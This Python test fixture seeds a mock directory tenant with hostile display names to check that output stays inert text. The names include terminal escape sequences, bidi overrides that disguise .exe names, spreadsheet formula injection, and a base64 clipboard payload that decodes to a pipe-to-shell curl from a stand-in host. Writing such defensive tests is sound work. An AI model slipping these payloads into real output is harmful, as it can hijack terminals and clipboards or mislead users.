"""Hostile names for a seeded tenant (``hostile_names``): what users, admins and apps can
call themselves that must never reach a terminal, a CSV or Markdown as anything but text.
"""

from __future__ import annotations

from .seed_lists import MICROSOFT_SERVICES_TENANT
from .tenant import (
    Tenant,
)

# Names a tenant's users can give themselves, their apps and (as admins) policies: terminal
# escapes (clear screen, window title, OSC 52 clipboard, OSC 8 link), BEL and NUL, C1
# controls (U+009B is a one-byte CSI), bidi overrides and isolates, a lone surrogate, Rich
# markup, spreadsheet formulas; and two harmless non-Latin names that must stay as they are.
HOSTILE_USERS = (
    ("\x1b[2J\x1b[3J\x1b[HScreen Wiper", "\x1b[2Jwiper"),
    ("\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07Clipboard Writer", "clip\x1b]52;c;Zm9v\x07board"),
    (
        "\x1b]8;;https://evil.example/\x1b\\Click Me\x1b]8;;\x1b\\",
        '=HYPERLINK("https://evil.example")',
    ),
    ("Bell\x07Ringer\x00", "+bell\x07\x00"),
    ("\x9b2J\x9d0;title\x9cC1 Controls", "-c1\x9b2J"),
    ("Invoice \u202egpj.exe\u202c \u2066Admin\u2069", "@bidi\u202eexe"),
    ("[red]x[/] [bold", "[red]markup[/]"),
    ("Lone \ud83d Surrogate\u2028Next line", "lone\ud83d"),
    ("Åsa Öberg", "åsa.öberg"),
    ("山田 太郎", "山田.太郎"),
)
HOSTILE_APP = "\x1b]0;pwned\x07\x1b[2JEvil App \u202etxt.exe"
HOSTILE_SERVICE_PRINCIPAL = "\x1b]8;;https://evil.example/\x1b\\Zoom\x1b]8;;\x1b\\\x9b2J"
HOSTILE_POLICY = "=Require MFA \x07\x1b[2J\u2066for admins\u2069\x9b"
HOSTILE_ORGANIZATION = "\x1b]0;owned\x07Fabrikam \u202e(sandbox)"
HOSTILE_SKU = "EMS\x1b[2J\x07"
HOSTILE_DELETED_USER = "\x1b[2Jpurged\x9b"


def rename_hostile(tenant: Tenant, domain: str) -> None:
    """Rename seeded objects (ids and the random sequence stay as without the option)."""
    tenant.org.display_name = HOSTILE_ORGANIZATION
    plain = [
        u
        for u in tenant.users.values()
        if u.id != tenant.admin_id and not tenant.roles_of(u.id) and u.user_type == "Member"
    ]
    for user, (name, local) in zip(plain, HOSTILE_USERS, strict=False):
        user.display_name = name
        user.user_principal_name = f"{local}@{domain}"
    for gone in list(tenant.deleted_users.values())[:1]:
        gone.user_principal_name = f"{HOSTILE_DELETED_USER}@{domain}"
    first_app = next(iter(tenant.applications.values()), None)
    if first_app is not None:
        first_app.display_name = HOSTILE_APP
    third_party = [
        sp
        for sp in tenant.service_principals.values()
        if sp.app_owner_organization_id not in (tenant.org.id, MICROSOFT_SERVICES_TENANT)
    ]
    if third_party:
        third_party[0].display_name = HOSTILE_SERVICE_PRINCIPAL
    first_policy = next(iter(tenant.ca_policies.values()), None)
    if first_policy is not None:
        first_policy.display_name = HOSTILE_POLICY
    ems = tenant.skus.get("efccb6f7-5641-4e0e-bd10-b4976e1bf68e")
    if ems is not None:
        ems.sku_part_number = HOSTILE_SKU
